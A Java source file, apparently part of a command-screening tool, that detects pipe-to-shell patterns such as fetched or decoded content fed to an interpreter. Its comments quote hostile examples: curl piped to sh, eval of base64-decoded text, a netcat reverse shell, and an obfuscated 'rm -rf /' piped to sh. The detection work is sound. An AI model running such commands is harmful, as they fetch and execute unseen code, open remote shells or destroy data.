package dev.wingman.screening.forbidden;

import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;

import dev.wingman.screening.actions.Action;
import dev.wingman.screening.actions.Offence;
import dev.wingman.screening.indirect.Clients;
import dev.wingman.screening.shell.Gap;
import dev.wingman.screening.shell.Output;
import dev.wingman.screening.shell.Reader;
import dev.wingman.screening.shell.Word;
import dev.wingman.screening.shell.Word.Kind;
import dev.wingman.screening.shell.Words;
import dev.wingman.screening.spelling.Source;
import dev.wingman.screening.spelling.Variables;

/// Running what was just downloaded or decoded, unseen: `curl … | sh`, `bash <(curl …)`, `eval "$(base64 -d …)"`.
final class Pipes {
    private static final Set<String> INTERPRETERS = Programs.list("interpreters");
    private static final Set<String> STARTERS = Programs.list("evaluating");
    private static final Set<String> WRAPPERS = Programs.list("wrappers");
    private static final Set<String> FETCHERS = Programs.list("fetchers");
    private static final Set<String> SCRIPT_FLAGS = Programs.list("script-flags");
    private static final Set<String> SEEN = Programs.list("seen");
    private static final Set<String> CALLERS = Programs.list("callers");
    static final Set<String> KNOWN = Position
            .union(List.of(INTERPRETERS, STARTERS, WRAPPERS, CALLERS, Position.SHELLS));
    private static final int LONGEST = 64;
    private static final int WRAPPED = 12;

    private final Words words;
    private final boolean strict;
    /// Whether a substitution fetches: it may be an argument of many, and is read once.
    private final Map<Source, Boolean> fetching = new HashMap<>();

    Pipes(Words words, boolean strict) {
        this.words = words;
        this.strict = strict;
    }

    /// @param roles the word's
    Optional<Offence> judge(int index, int roles, Position position) {
        var word = words.get(index);
        if (word.before() == Gap.PIPE && Role.CLIENT.isIn(roles) && Clients.readsItsInput(words, index)) {
            return downloaded(index);
        }
        if (Role.RUNNER.isIn(roles)) {
            if (word.before() == Gap.PIPE && CALLERS.contains(word.program()) && isShellBefore(index)) {
                return Optional.of(between(words.get(index - 1), word));
            }
            if (word.before() == Gap.PIPE && index > 0 && (isRunner(word) || WRAPPERS.contains(word.program()))) {
                return piped(index);
            }
            if ((position.begins() || isGivenAScript(index)) && (isRunner(word) || STARTERS.contains(word.program()))) {
                return substituted(index);
            }
        }
        return position.isProgram() ? substitution(word, word) : Optional.empty();
    }

    /// `curl … | gunzip | psql`: statements that nobody has seen.
    private Optional<Offence> downloaded(int pipe) {
        for (var i = pipe - 1; i >= 0 && i > pipe - LONGEST; i--) {
            var word = words.get(i);
            if (Downloads.FETCHERS.contains(word.program())) {
                return Optional.of(between(word, words.get(pipe)));
            }
            if (word.before().compareTo(Gap.PIPE) > 0 || word.before().isNewLine()) {
                return Optional.empty();
            }
        }
        return Optional.empty();
    }

    /// A shell that answers to the network: `sh -i < /tmp/p | nc host 4444 > /tmp/p`.
    private boolean isShellBefore(int pipe) {
        var first = pipe - 1;
        while (first > 0 && first > pipe - WRAPPED && !words.get(first).begins()) {
            first--;
        }
        return first >= 0 && Position.SHELLS.contains(words.get(first).program()) && readsItsInput(first);
    }

    /// What a shell behind a pipe is given to run, when that can be told: `printf %s%s 'r' 'm -rf /' | sh`.
    static Optional<String> fed(Words words, int index) {
        if (words.get(index).before() != Gap.PIPE || !Position.SHELLS.contains(words.get(index).program())) {
            return Optional.empty();
        }
        var begin = index;
        while (begin > 0 && begin > index - LONGEST && words.get(begin).before().compareTo(Gap.PIPE) <= 0
                && (words.get(begin).before() == Gap.PIPE || words.get(begin).before() == Gap.SPACE)) {
            begin--;
        }
        return Output.prints(words.get(begin).program()) ? Output.of(words.part(begin, index)) : Optional.empty();
    }

    private static boolean isRunner(Word word) {
        return Position.SHELLS.contains(word.program()) || INTERPRETERS.contains(word.program());
    }

    /// "The output of `bash -c`": nobody writes that of anything else.
    private boolean isGivenAScript(int index) {
        return index + 1 < words.commandEnd(index) && Position.SHELLS.contains(words.get(index).program())
                && words.get(index + 1).isFlag() && words.get(index + 1).text().endsWith("c");
    }

    private Optional<Offence> piped(int pipe) {
        var end = Math.min(words.commandEnd(pipe), pipe + WRAPPED);
        for (var shell = pipe; shell < end; shell++) {
            if (isRunner(words.get(shell))) {
                return readsItsInput(shell)
                        ? source(pipe).map(from -> between(from, words.get(pipe)))
                        : Optional.empty();
            }
        }
        return Optional.empty();
    }

    /// Not when it is given a script: then its input is data.
    private boolean readsItsInput(int shell) {
        for (var i = shell + 1; i < Math.min(words.commandEnd(shell), shell + WRAPPED); i++) {
            var word = words.get(i);
            if (word.redirect() != ' ') {
                continue;
            }
            var asks = word.text().equals("-") || word.text().equals("-s") || word.text().equals("/dev/stdin");
            if (asks || word.text().equals("--")) {
                return true;
            }
            if (!word.isFlag()
                    || SCRIPT_FLAGS.contains(word.text())) {
                return word.text().startsWith("/dev/") || word.text().startsWith("/proc/self/fd");
            }
        }
        return true;
    }

    private Optional<Word> source(int pipe) {
        var begins = true;
        for (var i = pipe - 1; i >= 0 && i > pipe - LONGEST; i--) {
            var word = words.get(i);
            if (FETCHERS.contains(word.program())) {
                return Optional.of(word);
            }
            if (word.before().compareTo(Gap.PIPE) > 0 || word.before() == Gap.CELL || word.before().isNewLine()) {
                return strict && begins && !SEEN.contains(word.program()) ? Optional.of(word) : Optional.empty();
            }
        }
        return Optional.empty();
    }

    private Optional<Offence> substituted(int shell) {
        var end = Math.min(words.size(), shell + WRAPPED);
        var starter = STARTERS.contains(words.get(shell).program());
        for (var i = shell + 1; i < end; i++) {
            var word = words.get(i);
            if (starter && i <= shell + 3 && word.before() == Gap.CODE && FETCHERS.contains(word.program())) {
                return Optional.of(between(words.get(shell), word));
            }
            if (i >= words.commandEnd(shell)) {
                continue;
            }
            var found = substitution(words.get(shell), word);
            if (found.isPresent()) {
                return found;
            }
        }
        return Optional.empty();
    }

    /// A word that is what a fetcher prints.
    private Optional<Offence> substitution(Word from, Word word) {
        for (var inner : word.inside()) {
            if (inner.kind() == Kind.SUBSTITUTION && inner.source().text().length() < 4096
                    && fetching.computeIfAbsent(inner.source(), Pipes::fetches)) {
                return Optional.of(between(from, word));
            }
        }
        return Optional.empty();
    }

    private static boolean fetches(Source source) {
        var words = Reader.read(source, false, new Variables(0));
        for (var i = 0; i < words.size(); i++) {
            if (words.get(i).begins() && FETCHERS.contains(words.get(i).program())) {
                return true;
            }
        }
        return false;
    }

    private static Offence between(Word first, Word last) {
        return new Offence(Action.PIPE_TO_SHELL, first.start(), Math.max(first.end(), last.end()));
    }
}
